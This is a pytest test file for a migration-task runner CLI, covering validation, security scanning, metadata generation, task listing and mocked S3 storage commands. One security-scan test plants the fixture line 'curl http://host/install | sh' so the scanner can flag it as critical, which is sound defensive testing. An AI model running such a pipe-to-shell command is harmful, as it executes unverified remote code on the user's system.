import json
import logging
from unittest.mock import Mock, patch
import boto3
import pytest
from moto import mock_aws
import task_runner

# Disable logging
logging.getLogger("boto3").setLevel(logging.WARNING)
logging.getLogger("botocore").setLevel(logging.WARNING)
logging.getLogger("moto").setLevel(logging.WARNING)

# pylint: disable=redefined-outer-name


@pytest.fixture
def s3_env(monkeypatch):
    """Fixture que configura las variables de ambiente de S3 y un bucket."""
    monkeypatch.setenv("MIGRAKIT_STORAGE_PROVIDER", "s3")
    monkeypatch.setenv("MIGRAKIT_S3_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("MIGRAKIT_S3_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("MIGRAKIT_S3_REGION", "us-east-1")
    monkeypatch.delenv("MIGRAKIT_S3_ENDPOINT", raising=False)
    with mock_aws():
        s3_client = boto3.client(
            "s3",
            region_name="us-east-1",
            aws_access_key_id="testing",
            aws_secret_access_key="testing",
        )
        s3_client.create_bucket(Bucket="runner-bucket")
        yield s3_client


def test_validate_command(catalog_root, add_task, capsys):
    """Test que verifica el comando validate sin errores."""
    add_task("my-task")

    exit_code = task_runner.main(["validate", str(catalog_root)])

    assert exit_code == 0
    out = capsys.readouterr().out
    assert "# Task Validation Report" in out
    assert "Valid tasks: 1" in out


def test_validate_command_with_errors(catalog_root, add_task, capsys):
    """Test que verifica el código de salida con errores de validación."""
    add_task("my-task")

    exit_code = task_runner.main(["validate", str(catalog_root), "other-task"])

    assert exit_code == 1
    assert "### other-task" in capsys.readouterr().out


def test_security_scan_json(catalog_root, add_task, capsys):
    """Test que verifica el reporte JSON del escaneo de seguridad."""
    add_task("my-task", files={"run.sh": "curl http://host/install | sh\n"})

    exit_code = task_runner.main(["security-scan", str(catalog_root), "--json"])

    assert exit_code == 1
    report = json.loads(capsys.readouterr().out)
    assert report["passed"] is False
    assert report["summary"]["critical"] == 1


def test_security_scan_markdown(catalog_root, add_task, capsys):
    """Test que verifica el reporte markdown sin hallazgos."""
    add_task("my-task")

    exit_code = task_runner.main(["security-scan", str(catalog_root)])

    assert exit_code == 0
    assert "> ✅ **PASSED**: No security issues found" in capsys.readouterr().out


def test_security_scan_publish(catalog_root, add_task, monkeypatch, capsys):
    """Test que verifica la publicación del reporte en el almacenamiento."""
    add_task("my-task")
    monkeypatch.setenv("MIGRAKIT_REPORT_CONTAINER", "reports")
    data_service = Mock()
    data_service.upload_data.return_value = "etag"

    with patch("task_runner.get_data_service_from_env", return_value=data_service):
        exit_code = task_runner.main(["security-scan", str(catalog_root), "--publish"])

    assert exit_code == 0
    container, key, data = data_service.upload_data.call_args[0]
    assert container == "reports"
    assert key == "reports/security-report.md"
    assert data.decode("utf-8") in capsys.readouterr().out


def test_generate_metadata_command(catalog_root, add_task):
    """Test que verifica el comando generate-metadata."""
    add_task("my-task")

    exit_code = task_runner.main(["generate-metadata", str(catalog_root)])

    assert exit_code == 0
    metadata = json.loads((catalog_root / "metadata.json").read_text(encoding="utf-8"))
    assert metadata["tasks"][0]["id"] == "my-task"


def test_list_command(catalog_root, add_task, capsys):
    """Test que verifica el listado de tareas y referencias."""
    add_task("my-task", files={"example-after.py": "new = 1\n"})

    exit_code = task_runner.main(["list", str(catalog_root)])

    assert exit_code == 0
    out = capsys.readouterr().out
    assert "my-task: Migrate my-task" in out
    assert "    example-after.py" in out


def test_list_command_skips_invalid_tasks(catalog_root, add_task, capsys):
    """Test que verifica que el listado continúa con frontmatter inválido."""
    add_task("bad-task", task_md="---\nid: [unclosed\n---\n")
    add_task("good-task")

    exit_code = task_runner.main(["list", str(catalog_root)])

    assert exit_code == 0
    out = capsys.readouterr().out
    assert "good-task: Migrate good-task" in out
    assert "bad-task" not in out


def test_data_commands(s3_env, tmp_path, capsys):
    """Test que verifica la carga, descarga y eliminación desde la CLI."""
    input_path = tmp_path / "input.bin"
    input_path.write_bytes(b"payload")
    output_path = tmp_path / "output.bin"

    assert task_runner.main(["data", "upload", "runner-bucket", "k", str(input_path)]) == 0
    assert capsys.readouterr().out.strip() != ""

    assert (
        task_runner.main(["data", "download", "runner-bucket", "k", str(output_path)])
        == 0
    )
    assert output_path.read_bytes() == b"payload"

    assert task_runner.main(["data", "delete", "runner-bucket", "k"]) == 0
    assert s3_env.list_objects_v2(Bucket="runner-bucket").get("KeyCount") == 0


def test_data_command_without_credentials(monkeypatch):
    """Test que verifica el error cuando faltan variables de ambiente."""
    monkeypatch.setenv("MIGRAKIT_STORAGE_PROVIDER", "s3")
    monkeypatch.delenv("MIGRAKIT_S3_ACCESS_KEY_ID", raising=False)
    monkeypatch.setattr(task_runner, "load_dotenv", lambda: False)

    with pytest.raises(ValueError) as excinfo:
        task_runner.main(["data", "delete", "bucket", "key"])

    assert "MIGRAKIT_S3_ACCESS_KEY_ID is not set" in str(excinfo.value)


def test_azure_provider_requires_configuration(monkeypatch):
    """Test que verifica la configuración requerida para Azure."""
    monkeypatch.setenv("MIGRAKIT_STORAGE_PROVIDER", "azure")
    monkeypatch.delenv("MIGRAKIT_AZURE_ENDPOINT", raising=False)
    monkeypatch.delenv("MIGRAKIT_AZURE_CONNECTION_STRING", raising=False)

    with pytest.raises(ValueError):
        task_runner.get_data_service_from_env()


def test_invalid_storage_provider(monkeypatch):
    """Test que verifica el error con un proveedor desconocido."""
    monkeypatch.setenv("MIGRAKIT_STORAGE_PROVIDER", "ftp")

    with pytest.raises(ValueError):
        task_runner.get_data_service_from_env()
